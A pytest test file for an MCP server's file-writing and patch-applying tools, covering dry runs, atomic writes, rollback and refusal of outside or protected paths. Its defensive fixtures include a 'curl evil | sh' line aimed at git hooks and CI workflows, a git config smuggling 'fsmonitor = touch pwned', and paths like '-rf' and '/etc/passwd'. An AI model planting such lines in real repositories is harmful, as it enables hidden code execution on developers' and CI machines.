"""oct_write_file and oct_apply_patch: previews, atomic writes, all-or-nothing patches, refused paths."""

from __future__ import annotations

import difflib
import itertools
import os
import stat
import subprocess
from collections.abc import Callable
from pathlib import Path
from typing import Any

import anyio
import pytest
from changes import carried_out
from hypothesis import given
from hypothesis import strategies as st
from pydantic import ValidationError

from oct_mcp.app import CallFailure, build_app, run_call
from oct_mcp.deadline import Deadline
from oct_mcp.errors import ExecutionError, PathRefusedError, PolicyError, ToolTimeoutError
from oct_mcp.tools._text.diffs import unified_diff, unified_lines
from oct_mcp.tools._text.hunks import apply_hunks
from oct_mcp.tools._text.patch_parse import PatchError, parse_patch
from oct_mcp.tools.edit.apply_patch import APPLY_PATCH, ApplyPatchParams
from oct_mcp.tools.edit.write_file import WRITE_FILE, WriteFileParams
from oct_mcp.types import ClientInfo, ToolResult
from oct_mcp.workspace import Workspace

pytestmark = pytest.mark.e2e

_CLIENTS = itertools.count()


@pytest.fixture
def workspace(tmp_path: Path) -> Workspace:
    root = (tmp_path / "project").resolve()
    root.mkdir()
    (tmp_path / "outside").mkdir()
    (tmp_path / "outside" / "secret.txt").write_text("not yours\n")
    return Workspace(root)


def files_of(root: Path) -> dict[str, bytes]:
    return {
        path.relative_to(root).as_posix(): path.read_bytes()
        for path in sorted(root.rglob("*"))
        if path.is_file() and not path.is_symlink()
    }


def write(workspace: Workspace, path: str, content: str, *, dry_run: bool = False) -> ToolResult:
    return carried_out(workspace, WRITE_FILE, WriteFileParams(path=path, content=content), dry_run=dry_run)


def patch(workspace: Workspace, text: str, *, dry_run: bool = False) -> ToolResult:
    return carried_out(workspace, APPLY_PATCH, ApplyPatchParams(patch=text), dry_run=dry_run)


def call(project: Path, config: Path, tool: str, arguments: dict[str, Any]) -> ToolResult | CallFailure:
    app = build_app(project, config_path=config, environ={})
    client = ClientInfo(client_id=f"edit-{next(_CLIENTS)}", transport="memory")
    outcome = anyio.run(run_call, app, tool, arguments, client)
    assert isinstance(outcome, ToolResult | CallFailure)
    return outcome


def failing_on(call_number: int, real: Callable[..., Any]) -> Callable[..., Any]:
    """A stand-in for an os function that fails with ENOSPC on its n-th call."""
    calls = itertools.count(1)

    def fake(*args: Any, **kwargs: Any) -> Any:
        if next(calls) == call_number:
            raise OSError(28, "No space left on device")
        return real(*args, **kwargs)

    return fake


# oct_write_file


def test_write_file_dry_run_returns_the_diff_and_changes_nothing(workspace: Workspace) -> None:
    (workspace.root / "a.txt").write_text("one\ntwo\n")

    result = write(workspace, "a.txt", "one\n2\n", dry_run=True)

    assert (workspace.root / "a.txt").read_text() == "one\ntwo\n"
    assert result.structured == {
        "path": "a.txt",
        "action": "replace",
        "applied": False,
        "size_bytes": 6,
        "added": 1,
        "removed": 1,
        "diff": "--- a/a.txt\n+++ b/a.txt\n@@ -1,2 +1,2 @@\n one\n-two\n+2\n",
        "diff_cut": False,
        "masked_kept": 0,
    }
    assert result.text.startswith("dry run, nothing changed: would replace a.txt (+1 -1)\n--- a/a.txt")


def test_write_file_dry_run_of_a_new_file_creates_nothing(workspace: Workspace) -> None:
    result = write(workspace, "new/dir/a.txt", "hello", dry_run=True)

    assert files_of(workspace.root) == {}
    assert not (workspace.root / "new").exists()
    assert result.structured is not None
    assert result.structured["action"] == "create"
    assert result.structured["diff"] == (
        "--- /dev/null\n+++ b/new/dir/a.txt\n@@ -0,0 +1 @@\n+hello\n\\ No newline at end of file\n"
    )


def test_write_file_creates_a_file_and_its_folders(workspace: Workspace) -> None:
    result = write(workspace, "src/pkg/new.py", "x = 1\n")

    assert (workspace.root / "src" / "pkg" / "new.py").read_text() == "x = 1\n"
    assert result.structured is not None
    assert (result.structured["action"], result.structured["applied"]) == ("create", True)
    assert result.text.startswith("created src/pkg/new.py (6 bytes, +1 -0)")


def test_write_file_gives_a_new_file_the_umasks_mode(workspace: Workspace) -> None:
    umask = os.umask(0o022)
    try:
        write(workspace, "a.txt", "x")
    finally:
        os.umask(umask)

    assert stat.S_IMODE((workspace.root / "a.txt").stat().st_mode) == 0o644


def test_write_file_replaces_a_file_keeping_its_mode(workspace: Workspace) -> None:
    script = workspace.root / "run.sh"
    script.write_text("echo old\n")
    script.chmod(0o750)

    result = write(workspace, "run.sh", "echo new\n")

    assert script.read_text() == "echo new\n"
    assert stat.S_IMODE(script.stat().st_mode) == 0o750
    assert result.structured is not None
    assert result.structured["action"] == "replace"


def test_write_file_writes_bytes_exactly_as_given(workspace: Workspace) -> None:
    write(workspace, "crlf.txt", "a\r\nb\r\n€")

    assert (workspace.root / "crlf.txt").read_bytes() == "a\r\nb\r\n€".encode()


def test_write_file_leaves_a_file_with_the_same_content_alone(workspace: Workspace) -> None:
    target = workspace.root / "a.txt"
    target.write_text("same\n")
    before = target.stat().st_ino

    result = write(workspace, "a.txt", "same\n")

    assert result.structured is not None
    assert (result.structured["action"], result.structured["applied"]) == ("unchanged", False)
    assert target.stat().st_ino == before


def test_write_file_keeps_the_old_file_intact_when_the_write_fails(
    workspace: Workspace, monkeypatch: pytest.MonkeyPatch
) -> None:
    (workspace.root / "a.txt").write_text("old\n")
    monkeypatch.setattr(os, "fsync", failing_on(1, os.fsync))

    with pytest.raises(ExecutionError) as caught:
        write(workspace, "a.txt", "new\n")

    assert caught.value.message == (
        "the change could not be made (No space left on device); nothing was changed"
    )
    assert files_of(workspace.root) == {"a.txt": b"old\n"}


def test_write_file_keeps_the_old_file_intact_when_the_rename_fails(
    workspace: Workspace, monkeypatch: pytest.MonkeyPatch
) -> None:
    (workspace.root / "a.txt").write_text("old\n")
    monkeypatch.setattr(os, "replace", failing_on(1, os.replace))

    with pytest.raises(ExecutionError):
        write(workspace, "a.txt", "new\n")

    assert files_of(workspace.root) == {"a.txt": b"old\n"}


def test_write_file_removes_the_folders_it_made_when_the_write_fails(
    workspace: Workspace, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(os, "replace", failing_on(1, os.replace))

    with pytest.raises(ExecutionError):
        write(workspace, "a/b/c.txt", "new\n")

    assert list(workspace.root.iterdir()) == []


def test_write_file_writes_through_a_symlink_inside_to_its_target(workspace: Workspace) -> None:
    (workspace.root / "real.txt").write_text("old\n")
    (workspace.root / "link.txt").symlink_to("real.txt")

    result = write(workspace, "link.txt", "new\n")

    assert (workspace.root / "real.txt").read_text() == "new\n"
    assert (workspace.root / "link.txt").is_symlink()
    assert result.structured is not None
    assert result.structured["path"] == "real.txt"


@pytest.mark.parametrize("link_target", ["outside/secret.txt", "outside"])
def test_write_file_refuses_a_symlink_that_leads_outside(workspace: Workspace, link_target: str) -> None:
    (workspace.root / "link").symlink_to(workspace.root.parent / link_target)
    path = "link" if link_target.endswith(".txt") else "link/secret.txt"

    with pytest.raises(PathRefusedError):
        write(workspace, path, "pwned\n")

    assert (workspace.root.parent / "outside" / "secret.txt").read_text() == "not yours\n"


@pytest.mark.parametrize("path", ["../outside/secret.txt", "/etc/passwd", "-rf"])
def test_write_file_refuses_a_path_outside_the_project(workspace: Workspace, path: str) -> None:
    with pytest.raises(PathRefusedError):
        write(workspace, path, "pwned\n")


@pytest.mark.parametrize(
    "path",
    [".git/config", ".git/hooks/pre-commit", ".github/workflows/ci.yml", ".vscode/settings.json", ".envrc"],
)
def test_write_file_refuses_a_protected_path_itself(workspace: Workspace, path: str) -> None:
    with pytest.raises(PolicyError) as caught:
        write(workspace, path, "pwned\n")

    assert caught.value.code == "policy"
    assert files_of(workspace.root) == {}


def test_write_file_refuses_a_protected_name_that_is_a_symlink_to_a_plain_folder(
    workspace: Workspace,
) -> None:
    (workspace.root / "settings").mkdir()
    (workspace.root / ".vscode").symlink_to("settings")

    with pytest.raises(PolicyError):
        write(workspace, ".vscode/tasks.json", "{}")

    assert files_of(workspace.root) == {}


def test_write_file_refuses_a_plain_name_that_leads_to_a_protected_path(workspace: Workspace) -> None:
    (workspace.root / ".git").mkdir()
    (workspace.root / "notes").symlink_to(".git")

    with pytest.raises(PolicyError):
        write(workspace, "notes/config", "pwned\n")


def test_write_file_refuses_to_replace_a_folder(workspace: Workspace) -> None:
    (workspace.root / "src").mkdir()

    with pytest.raises(PathRefusedError) as caught:
        write(workspace, "src", "x")

    assert caught.value.message == "the path is a folder; only files can be written"


def test_write_file_refuses_what_is_not_a_regular_file(workspace: Workspace) -> None:
    os.mkfifo(workspace.root / "pipe")

    with pytest.raises(PathRefusedError):
        write(workspace, "pipe", "x")


def test_write_file_refuses_a_folder_on_the_path_that_is_a_file(workspace: Workspace) -> None:
    (workspace.root / "a").write_text("file\n")

    with pytest.raises(PathRefusedError):
        write(workspace, "a/b.txt", "x")


def test_write_file_diffs_a_binary_file_by_size(workspace: Workspace) -> None:
    (workspace.root / "blob").write_bytes(b"\x00\x01\x02")

    result = write(workspace, "blob", "text\n", dry_run=True)

    assert result.structured is not None
    assert result.structured["diff"] == "Binary or non-UTF-8 file blob replaced (3 bytes)\n"


def test_write_file_params_bound_the_content_in_bytes() -> None:
    with pytest.raises(ValidationError):
        WriteFileParams(path="a.txt", content="€" * 1_000_000)
    with pytest.raises(ValidationError):
        WriteFileParams(path="a.txt", content="x" * (2 * 1_048_576 + 1))


def test_write_file_params_forbid_extras_and_leave_confirm_to_the_chain() -> None:
    with pytest.raises(ValidationError):
        WriteFileParams(path="a", content="", mode=0o777)  # type: ignore[call-arg]
    # The validator takes `confirm` off a call before the tool's model sees it.
    with pytest.raises(ValidationError):
        WriteFileParams(path="a", content="", confirm=True)  # type: ignore[call-arg]


def test_write_file_through_the_chain_previews_by_default_then_writes(
    project: Path, config_file: Path
) -> None:
    arguments = {"path": "notes/new.txt", "content": "hello\n", "confirm": True}

    preview = call(project, config_file, "oct_write_file", arguments)
    written = call(project, config_file, "oct_write_file", {**arguments, "dry_run": False})

    assert isinstance(preview, ToolResult)
    assert preview.structured is not None
    assert (preview.structured["applied"], preview.structured["action"]) == (False, "create")
    assert isinstance(written, ToolResult)
    assert written.text.startswith("created notes/new.txt")
    assert (project / "notes" / "new.txt").read_text() == "hello\n"


def test_write_file_through_the_chain_asks_for_consent_first(project: Path, config_file: Path) -> None:
    outcome = anyio.run(
        run_call,
        build_app(project, config_path=config_file, environ={}),
        "oct_write_file",
        {"path": "a.txt", "content": "x", "dry_run": False},
        ClientInfo(client_id="edit-consent", transport="memory"),
    )

    assert not isinstance(outcome, ToolResult | CallFailure)
    assert not (project / "a.txt").exists()


def test_write_file_through_the_chain_refuses_a_protected_path(project: Path, config_file: Path) -> None:
    outcome = call(
        project,
        config_file,
        "oct_write_file",
        {"path": ".git/hooks/pre-commit", "content": "x", "dry_run": False, "confirm": True},
    )

    assert isinstance(outcome, CallFailure)
    assert outcome.code == "policy"
    assert not (project / ".git").exists()


# unified diffs


@given(
    old=st.lists(st.sampled_from(["a", "b", "c", "", " x", "a\r"]), max_size=12),
    new=st.lists(st.sampled_from(["a", "b", "c", "", " x", "d"]), max_size=12),
    old_end=st.booleans(),
    new_end=st.booleans(),
)
def test_a_diff_applies_back_to_the_new_text(
    old: list[str], new: list[str], old_end: bool, new_end: bool
) -> None:
    old_text = "\n".join(old) + ("\n" if old_end and old else "")
    new_text = "\n".join(new) + ("\n" if new_end and new else "")
    diff = unified_diff(old_text, new_text, "a/f", "b/f")

    if diff.text:
        (parsed,) = parse_patch(diff.text)
        assert apply_hunks(old_text, parsed.hunks, "f") == new_text
    else:
        assert old_text == new_text


def test_a_diff_made_here_is_one_git_apply_accepts(tmp_path: Path) -> None:
    (tmp_path / "f.txt").write_text("one\ntwo\nthree")
    diff = unified_diff("one\ntwo\nthree", "one\n2\nthree\nfour", "a/f.txt", "b/f.txt")
    (tmp_path / "p.diff").write_text(diff.text)

    subprocess.run(["git", "apply", "--unsafe-paths", "p.diff"], cwd=tmp_path, check=True)

    assert (tmp_path / "f.txt").read_text() == "one\n2\nthree\nfour"


# oct_apply_patch

MODIFY = (
    "--- a/src/app.py\n+++ b/src/app.py\n@@ -1,3 +1,3 @@\n def main():\n-    return 1\n+    return 2\n \n"
)


def test_apply_patch_dry_run_checks_and_shows_without_writing(workspace: Workspace) -> None:
    (workspace.root / "src").mkdir()
    (workspace.root / "src" / "app.py").write_text("def main():\n    return 1\n\nmain()\n")

    result = patch(workspace, MODIFY, dry_run=True)

    assert (workspace.root / "src" / "app.py").read_text() == "def main():\n    return 1\n\nmain()\n"
    assert result.is_error is False
    assert result.structured == {
        "applied": False,
        "files": [
            {
                "path": "src/app.py",
                "original_path": None,
                "action": "modify",
                "hunks": 1,
                "added": 1,
                "removed": 1,
                "masked_kept": 0,
            }
        ],
        "added": 1,
        "removed": 1,
        "diff": "--- a/src/app.py\n+++ b/src/app.py\n@@ -1,4 +1,4 @@\n def main():\n-    return 1\n"
        "+    return 2\n \n main()\n",
        "diff_cut": False,
    }
    assert result.text.startswith("dry run, nothing changed; the patch applies cleanly to 1 file(s):")


def test_apply_patch_applies_a_hunk_found_at_another_line(workspace: Workspace) -> None:
    (workspace.root / "src").mkdir()
    (workspace.root / "src" / "app.py").write_text("# header\n# more\ndef main():\n    return 1\n\n")

    result = patch(workspace, MODIFY)

    assert result.is_error is False
    assert (
        workspace.root / "src" / "app.py"
    ).read_text() == "# header\n# more\ndef main():\n    return 2\n\n"
    assert result.text.startswith("applied the patch to 1 file(s):\n  modify src/app.py (1 hunk(s), +1 -1)")


def test_apply_patch_applies_several_hunks_and_files(workspace: Workspace) -> None:
    (workspace.root / "a.txt").write_text("".join(f"{n}\n" for n in range(1, 21)))
    (workspace.root / "b.txt").write_text("x\n")
    text = (
        "diff --git a/a.txt b/a.txt\n--- a/a.txt\n+++ b/a.txt\n@@ -2,2 +2,2 @@\n 2\n-3\n+three\n"
        "@@ -18,3 +18,2 @@\n 18\n-19\n 20\ndiff --git a/b.txt b/b.txt\n--- a/b.txt\n+++ b/b.txt\n"
        "@@ -1 +1 @@\n-x\n+y\n"
    )

    result = patch(workspace, text)

    assert result.is_error is False
    lines = (workspace.root / "a.txt").read_text().splitlines()
    assert lines[:4] == ["1", "2", "three", "4"]
    assert lines[-2:] == ["18", "20"]
    assert (workspace.root / "b.txt").read_text() == "y\n"


def test_a_patch_that_does_not_apply_leaves_every_file_untouched(workspace: Workspace) -> None:
    (workspace.root / "a.txt").write_text("one\n")
    (workspace.root / "b.txt").write_text("two\n")
    before = files_of(workspace.root)
    text = (
        "--- a/a.txt\n+++ b/a.txt\n@@ -1 +1 @@\n-one\n+ONE\n"
        "--- /dev/null\n+++ b/c.txt\n@@ -0,0 +1 @@\n+new\n"
        "--- a/b.txt\n+++ b/b.txt\n@@ -1 +1 @@\n-not what is there\n+TWO\n"
    )

    result = patch(workspace, text)

    assert result.is_error is True
    assert result.text == (
        "the patch does not apply; nothing was changed.\n"
        "file 3 of the patch (b.txt), hunk 1 (at line 1): its "
        "context and removed lines are not in the file as the hunk shows them. None of its lines is in the "
        "file; where its header puts it, at line 1; its line 1 ('not what is there') differs from the file's "
        "line 1, which reads 'two'."
    )
    assert files_of(workspace.root) == before


def test_apply_patch_creates_and_deletes_files(workspace: Workspace) -> None:
    (workspace.root / "old.txt").write_text("bye\nnow\n")
    text = (
        "--- /dev/null\n+++ b/pkg/new.txt\n@@ -0,0 +1,2 @@\n+hello\n+world\n"
        "--- a/old.txt\n+++ /dev/null\n@@ -1,2 +0,0 @@\n-bye\n-now\n"
    )

    result = patch(workspace, text)

    assert result.is_error is False
    assert files_of(workspace.root) == {"pkg/new.txt": b"hello\nworld\n"}
    assert result.structured is not None
    assert [(f["path"], f["action"]) for f in result.structured["files"]] == [
        ("pkg/new.txt", "create"),
        ("old.txt", "delete"),
    ]


def test_apply_patch_creates_an_empty_file_and_an_executable_from_git_headers(workspace: Workspace) -> None:
    text = (
        "diff --git a/empty.txt b/empty.txt\nnew file mode 100644\nindex 0000000..e69de29\n"
        "diff --git a/run.sh b/run.sh\nnew file mode 100755\n"
        "--- /dev/null\n+++ b/run.sh\n@@ -0,0 +1 @@\n+echo\n"
    )

    result = patch(workspace, text)

    assert result.is_error is False, result.text
    assert files_of(workspace.root) == {"empty.txt": b"", "run.sh": b"echo\n"}
    assert os.access(workspace.root / "run.sh", os.X_OK)


def test_apply_patch_renames_a_file_with_git_headers(workspace: Workspace) -> None:
    (workspace.root / "sp ace.txt").write_text("a\nb\n")
    text = (
        'diff --git "a/sp ace.txt" b/moved/b.txt\nsimilarity index 50%\nrename from sp ace.txt\n'
        "rename to moved/b.txt\n--- a/sp ace.txt\t\n+++ b/moved/b.txt\n@@ -1,2 +1,2 @@\n a\n-b\n+B\n"
    )

    result = patch(workspace, text)

    assert result.is_error is False, result.text
    assert files_of(workspace.root) == {"moved/b.txt": b"a\nB\n"}
    assert result.structured is not None
    assert result.structured["files"][0]["original_path"] == "sp ace.txt"


def test_apply_patch_handles_a_missing_final_newline(workspace: Workspace) -> None:
    (workspace.root / "a.txt").write_text("one\ntwo")
    text = "--- a/a.txt\n+++ b/a.txt\n@@ -1,2 +1,2 @@\n one\n-two\n\\ No newline at end of file\n+two\n"

    result = patch(workspace, text)

    assert result.is_error is False, result.text
    assert (workspace.root / "a.txt").read_text() == "one\ntwo\n"


def test_apply_patch_keeps_crlf_lines_and_the_files_mode(workspace: Workspace) -> None:
    target = workspace.root / "win.txt"
    target.write_bytes(b"one\r\ntwo\r\n")
    target.chmod(0o600)

    result = patch(workspace, "--- win.txt\n+++ win.txt\n@@ -1,2 +1,2 @@\n one\r\n-two\r\n+2\r\n")

    assert result.is_error is False, result.text
    assert target.read_bytes() == b"one\r\n2\r\n"
    assert stat.S_IMODE(target.stat().st_mode) == 0o600


def test_apply_patch_accepts_a_plain_diff_against_an_orig_file(workspace: Workspace) -> None:
    (workspace.root / "a.txt").write_text("x\n")

    result = patch(workspace, "--- a.txt.orig\t2024-01-01\n+++ a.txt\t2024-01-02\n@@ -1 +1 @@\n-x\n+y\n")

    assert result.is_error is False, result.text
    assert files_of(workspace.root) == {"a.txt": b"y\n"}


@pytest.mark.parametrize(
    ("text", "problem"),
    [
        ("just words\n", "the patch has no file in it"),
        ("@@ -1 +1 @@\n-a\n+b\n", "a hunk comes before any file header"),
        ("--- a/a.txt\n+++ b/a.txt\n@@ -1 +1 @@\n-one\n-two\n+ONE\n", "not in the file"),
        ("--- a/a.txt\n+++ b/a.txt\n@@ -1 +1 @@\n", "the hunk has no lines"),
        ("--- a/a.txt\n+++ b/a.txt\n@@ -x +1 @@\n", "the hunk header is not"),
        ("diff --git a/a.txt b/a.txt\nGIT binary patch\nliteral 0\n", "binary changes are not supported"),
        ("diff --git a/l b/l\nnew file mode 120000\n--- /dev/null\n+++ b/l\n@@ -0,0 +1 @@\n+x\n", "symlinks"),
        ("--- /dev/null\n+++ b/a.txt\n@@ -0,0 +1 @@\n+x\n", "already exists"),
        ("--- a/none.txt\n+++ b/none.txt\n@@ -1 +1 @@\n-x\n+y\n", "does not exist"),
        ("--- a/a.txt\n+++ /dev/null\n@@ -1 +0,0 @@\n-x\n", "not in the file"),
        (
            "--- a/a.txt\n+++ b/a.txt\n@@ -1 +1 @@\n-one\n+1\n"
            "--- a/a.txt\n+++ b/a.txt\n@@ -1 +1 @@\n-1\n+2\n",
            "more than once",
        ),
        ("--- a/a.txt\n+++ b/a.txt\n@@ -0,0 +1 @@\n\\ No newline at end of file\n+x\n", "must follow a line"),
    ],
)
def test_apply_patch_explains_a_patch_it_cannot_apply(workspace: Workspace, text: str, problem: str) -> None:
    (workspace.root / "a.txt").write_text("one\nkeep\n")

    result = patch(workspace, text)

    assert result.is_error is True
    assert result.text.startswith("the patch does not apply; nothing was changed.\n")
    assert problem in result.text
    assert files_of(workspace.root) == {"a.txt": b"one\nkeep\n"}


def test_apply_patch_refuses_a_binary_target(workspace: Workspace) -> None:
    (workspace.root / "blob").write_bytes(b"\x00x\n")

    result = patch(workspace, "--- a/blob\n+++ b/blob\n@@ -1 +1 @@\n-x\n+y\n")

    assert result.is_error is True
    assert "only text is patched" in result.text


@pytest.mark.parametrize("path", ["../outside/secret.txt", "/etc/passwd", "link/secret.txt", "-rf"])
def test_apply_patch_refuses_a_path_outside_the_project(workspace: Workspace, path: str) -> None:
    (workspace.root / "link").symlink_to(workspace.root.parent / "outside")
    (workspace.root / "a.txt").write_text("one\n")
    text = (
        "--- a/a.txt\n+++ b/a.txt\n@@ -1 +1 @@\n-one\n+1\n"
        f"--- {path}\n+++ {path}\n@@ -1 +1 @@\n-not yours\n+x\n"
    )

    with pytest.raises(PathRefusedError) as caught:
        patch(workspace, text)

    assert caught.value.message.startswith("file 2 of the patch: ")
    assert (workspace.root / "a.txt").read_text() == "one\n"
    assert (workspace.root.parent / "outside" / "secret.txt").read_text() == "not yours\n"


@pytest.mark.parametrize(
    "path", [".git/hooks/pre-commit", ".github/workflows/ci.yml", ".claude/settings.json"]
)
def test_apply_patch_refuses_a_protected_path(workspace: Workspace, path: str) -> None:
    text = f"--- /dev/null\n+++ b/{path}\n@@ -0,0 +1 @@\n+curl evil | sh\n"

    with pytest.raises(PolicyError) as caught:
        patch(workspace, text)

    assert caught.value.code == "policy"
    assert "file 1 of the patch" in caught.value.message
    assert files_of(workspace.root) == {}


def test_apply_patch_refuses_to_delete_or_rename_a_protected_file(workspace: Workspace) -> None:
    (workspace.root / ".envrc").write_text("x\n")
    text = "diff --git a/.envrc b/envrc\nsimilarity index 100%\nrename from .envrc\nrename to envrc\n"

    with pytest.raises(PolicyError):
        patch(workspace, text)

    assert files_of(workspace.root) == {".envrc": b"x\n"}


def test_apply_patch_puts_every_file_back_when_a_write_fails_midway(
    workspace: Workspace, monkeypatch: pytest.MonkeyPatch
) -> None:
    (workspace.root / "a.txt").write_text("one\n")
    (workspace.root / "gone.txt").write_text("bye\n")
    (workspace.root / "b.txt").write_text("two\n")
    before = files_of(workspace.root)
    text = (
        "--- a/a.txt\n+++ b/a.txt\n@@ -1 +1 @@\n-one\n+ONE\n"
        "--- /dev/null\n+++ b/new/c.txt\n@@ -0,0 +1 @@\n+new\n"
        "--- a/gone.txt\n+++ /dev/null\n@@ -1 +0,0 @@\n-bye\n"
        "--- a/b.txt\n+++ b/b.txt\n@@ -1 +1 @@\n-two\n+TWO\n"
    )
    # The third rename is b.txt's: a.txt and new/c.txt are written and gone.txt deleted before it fails.
    monkeypatch.setattr(os, "replace", failing_on(3, os.replace))

    with pytest.raises(ExecutionError) as caught:
        patch(workspace, text)

    assert caught.value.message == (
        "the change could not be made (No space left on device); nothing was changed"
    )
    assert files_of(workspace.root) == before
    assert not (workspace.root / "new").exists()


def test_apply_patch_params_bound_the_patch() -> None:
    with pytest.raises(ValidationError):
        ApplyPatchParams(patch="")
    with pytest.raises(ValidationError):
        ApplyPatchParams(patch="x" * (2 * 1_048_576 + 1))


def test_parse_patch_reads_quoted_paths() -> None:
    (parsed,) = parse_patch(
        '--- "a/caf\\303\\251 \\"x\\".txt"\n+++ "b/caf\\303\\251 \\"x\\".txt"\n@@ -1 +1 @@\n-a\n+b\n'
    )

    assert (parsed.old_path, parsed.new_path) == ('café "x".txt', 'café "x".txt')


def test_parse_patch_refuses_a_bad_quoted_path() -> None:
    with pytest.raises(PatchError):
        parse_patch('--- "a/\\q"\n+++ b/x\n@@ -1 +1 @@\n-a\n+b\n')


def test_apply_patch_through_the_chain_previews_by_default_then_applies(
    project: Path, config_file: Path
) -> None:
    text = "--- a/src/pkg/core.py\n+++ b/src/pkg/core.py\n@@ -2 +2 @@\n-    return 42\n+    return 43\n"

    preview = call(project, config_file, "oct_apply_patch", {"patch": text, "confirm": True})
    unchanged = (project / "src" / "pkg" / "core.py").read_text()
    applied = call(
        project, config_file, "oct_apply_patch", {"patch": text, "confirm": True, "dry_run": False}
    )

    assert isinstance(preview, ToolResult)
    assert preview.structured is not None
    assert preview.structured["applied"] is False
    assert "return 42" in unchanged
    assert isinstance(applied, ToolResult)
    assert applied.structured is not None
    assert applied.structured["applied"] is True
    assert (project / "src" / "pkg" / "core.py").read_text() == "def answer() -> int:\n    return 43\n"


def test_apply_patch_through_the_chain_refuses_a_protected_path(project: Path, config_file: Path) -> None:
    text = "--- /dev/null\n+++ b/.github/workflows/x.yml\n@@ -0,0 +1 @@\n+on: push\n"

    outcome = call(
        project, config_file, "oct_apply_patch", {"patch": text, "confirm": True, "dry_run": False}
    )

    assert isinstance(outcome, CallFailure)
    assert outcome.code == "policy"
    assert not (project / ".github").exists()


def test_the_write_tools_are_destructive_closed_world_and_honest_about_idempotence() -> None:
    assert (WRITE_FILE.annotations["readOnlyHint"], WRITE_FILE.annotations["destructiveHint"]) == (
        False,
        True,
    )
    assert (APPLY_PATCH.annotations["readOnlyHint"], APPLY_PATCH.annotations["destructiveHint"]) == (
        False,
        True,
    )
    assert (WRITE_FILE.annotations["idempotentHint"], APPLY_PATCH.annotations["idempotentHint"]) == (
        True,
        False,
    )
    assert WRITE_FILE.annotations["openWorldHint"] is APPLY_PATCH.annotations["openWorldHint"] is False
    for spec in (WRITE_FILE, APPLY_PATCH):
        # `confirm` is the chain's argument, which the server lists; the tool's model never sees it.
        assert ("dry_run" in spec.params.model_fields, "confirm" in spec.params.model_fields) == (True, False)


def _created(*paths: str) -> str:
    """A patch that creates each file with one line."""
    return "".join(f"--- /dev/null\n+++ b/{path}\n@@ -0,0 +1 @@\n+x\n" for path in paths)


def test_apply_patch_refuses_to_make_a_folder_a_git_directory(workspace: Workspace) -> None:
    (workspace.root / "src").mkdir()
    text = _created("src/HEAD", "src/config", "src/objects/.keep", "src/refs/.keep")

    with pytest.raises(PolicyError) as caught:
        patch(workspace, text)

    assert caught.value.code == "policy"
    assert "(protected path rule: git_directory)" in caught.value.message
    assert files_of(workspace.root) == {}


def test_a_write_that_completes_a_git_directory_with_what_is_on_disk_is_refused(workspace: Workspace) -> None:
    (workspace.root / "src" / "objects").mkdir(parents=True)
    (workspace.root / "src" / "refs").mkdir()

    with pytest.raises(PolicyError) as caught:
        write(workspace, "src/HEAD", "ref: refs/heads/main\n")

    assert "(protected path rule: git_directory)" in caught.value.message
    assert not (workspace.root / "src" / "HEAD").exists()


def test_a_head_beside_a_commondir_makes_a_git_directory_too(workspace: Workspace) -> None:
    with pytest.raises(PolicyError):
        patch(workspace, _created("wt/HEAD", "wt/commondir"))


def test_a_write_inside_a_git_directory_on_disk_is_refused(workspace: Workspace) -> None:
    bare = workspace.root / "fixtures" / "repo.git"
    (bare / "objects").mkdir(parents=True)
    (bare / "refs").mkdir()
    (bare / "HEAD").write_text("ref: refs/heads/main\n")

    with pytest.raises(PolicyError) as caught:
        write(workspace, "fixtures/repo.git/config", "[core]\n\tfsmonitor = touch pwned\n")

    assert "(protected path rule: git_directory)" in caught.value.message


def test_files_named_like_git_markers_in_plain_folders_are_written(workspace: Workspace) -> None:
    result = patch(workspace, _created("docs/HEAD", "docs/config", "other/objects/a", "other/refs/b"))

    assert result.is_error is False, result.text
    assert sorted(files_of(workspace.root)) == ["docs/HEAD", "docs/config", "other/objects/a", "other/refs/b"]


def test_write_file_through_the_chain_refuses_a_git_directory(project: Path, config_file: Path) -> None:
    (project / "src" / "objects").mkdir()
    (project / "src" / "refs").mkdir()

    outcome = call(
        project, config_file, "oct_write_file", {"path": "src/HEAD", "content": "x\n", "confirm": True}
    )

    assert isinstance(outcome, CallFailure)
    assert outcome.code == "policy"


def test_a_patch_past_its_deadline_writes_nothing(workspace: Workspace) -> None:
    (workspace.root / "a.txt").write_text("one\ntwo\n")
    patch = "--- a/a.txt\n+++ b/a.txt\n@@ -1,2 +1,2 @@\n one\n-two\n+TWO\n"
    deadline = Deadline(0)

    with pytest.raises(ToolTimeoutError) as caught:
        carried_out(workspace, APPLY_PATCH, ApplyPatchParams(patch=patch), dry_run=False, deadline=deadline)

    assert caught.value.code == "timeout"
    assert (workspace.root / "a.txt").read_text() == "one\ntwo\n"


def test_a_write_whose_run_was_given_up_creates_neither_file_nor_folder(workspace: Workspace) -> None:
    deadline = Deadline(3_600)
    deadline.expire()

    with pytest.raises(ToolTimeoutError):
        carried_out(
            workspace,
            WRITE_FILE,
            WriteFileParams(path="new/dir/a.txt", content="x\n"),
            dry_run=False,
            deadline=deadline,
        )

    assert not (workspace.root / "new").exists()


def test_a_hunk_is_found_at_the_nearest_place_among_many_equal_lines() -> None:
    text = "".join(["x\n"] * 50 + ["a\n", "b\n"] + ["x\n"] * 50 + ["a\n", "b\n"] + ["x\n"] * 50)
    (hunk,) = parse_patch("--- a/f\n+++ b/f\n@@ -100,3 +100,3 @@\n x\n a\n-b\n+B\n")[0].hunks

    patched = apply_hunks(text, (hunk,), "f")

    lines = patched.splitlines()
    assert lines.index("B") == 103
    assert lines.count("b") == 1


@given(
    old=st.lists(st.sampled_from(["a\n", "b\n", "c\n", "d", ""]), max_size=30),
    new=st.lists(st.sampled_from(["a\n", "b\n", "c\n", "e\n", "d"]), max_size=30),
)
def test_the_checked_diff_writes_exactly_what_difflib_writes(old: list[str], new: list[str]) -> None:
    ours = list(unified_lines(old, new, "a/f", "b/f", Deadline(3_600)))

    assert ours == list(difflib.unified_diff(old, new, fromfile="a/f", tofile="b/f"))


def test_a_diff_stops_inside_the_matcher_once_its_deadline_has_passed() -> None:
    old = [f"line {number}\n" for number in range(2_000)]
    new = [line.upper() if number % 100 == 0 else line for number, line in enumerate(old)]

    with pytest.raises(ToolTimeoutError):
        next(unified_lines(old, new, "a/f", "b/f", Deadline(0)))


def test_a_hunk_whose_header_counts_fewer_lines_than_its_body_applies_every_added_line(
    workspace: Workspace,
) -> None:
    (workspace.root / "a.txt").write_text("one\ntwo\nthree\n")

    result = patch(workspace, "--- a/a.txt\n+++ b/a.txt\n@@ -1,2 +1,3 @@\n one\n-two\n+TWO\n+2.5\n+last\n")

    assert result.is_error is False, result.text
